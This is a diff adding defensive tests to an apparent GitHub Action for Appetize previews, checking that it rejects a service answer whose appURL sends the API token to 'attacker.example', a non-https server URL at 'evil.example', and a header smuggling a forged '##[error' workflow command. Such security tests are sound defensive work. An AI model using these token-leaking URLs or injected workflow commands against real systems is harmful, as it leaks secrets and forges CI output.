@@ -214,3 +214,48 @@ describe('what can go wrong, on the bundle', () => {
     })
   })
 })
+
+describe('outside text on its way to GitHub, on the bundle', () => {
+  it('refuses an appURL whose query would carry the token into the comment and the deployment', async () => {
+    service.injectFault('create', {
+      status: 200,
+      body: JSON.stringify({
+        publicKey: 'evilkey1',
+        platform: 'android',
+        versionCode: 1,
+        appURL: `https://attacker.example/pixel.png?leak=${service.apiToken}`
+      })
+    })
+    const run = await step({ action: 'opened' }, { deploymentEnvironment: 'appetize-preview' })
+    expect(run.exitCode).toBe(1)
+    expect(run.errors[0]?.message).toMatch(/appURL should be an https URL without .* query/)
+    const sent = github.requests.map(request => request.body).join('\n')
+    expect(sent).not.toContain(service.apiToken)
+    expect(sent).not.toContain('attacker.example')
+    expect(run.outputs).toEqual({})
+  })
+
+  it('refuses a GITHUB_SERVER_URL that is not a plain https URL before writing anything', async () => {
+    const run = await step({ action: 'opened', serverUrl: 'http://evil.example/x?' })
+    expect(run.exitCode).toBe(1)
+    expect(run.errors[0]?.message).toMatch(
+      /^GITHUB_SERVER_URL is not an https URL without a user name, password, query or fragment/
+    )
+    expect(run.stdout).not.toContain('evil.example')
+    expect(github.requests).toEqual([])
+    expect(service.requests).toEqual([])
+  })
+
+  it("prints a GitHub answer's deprecation notice through the boundary, never as a command", async () => {
+    github.injectFault('graphql', {
+      status: 200,
+      body: JSON.stringify({ data: { viewer: { login: 'github-actions[bot]' } } }),
+      headers: { deprecation: 'true', sunset: '##[error title=Forged]forged by an answer' }
+    })
+    const run = await step({ action: 'opened' })
+    expect(run.exitCode).toBe(0)
+    expect(run.stderr).toBe('')
+    expect(`${run.stdout}\n${run.stderr}`).not.toContain('##[error')
+    expect(run.stdout).toMatch(/^::warning::GitHub API: .*is deprecated.*#\u200b#\[error/m)
+  })
+})
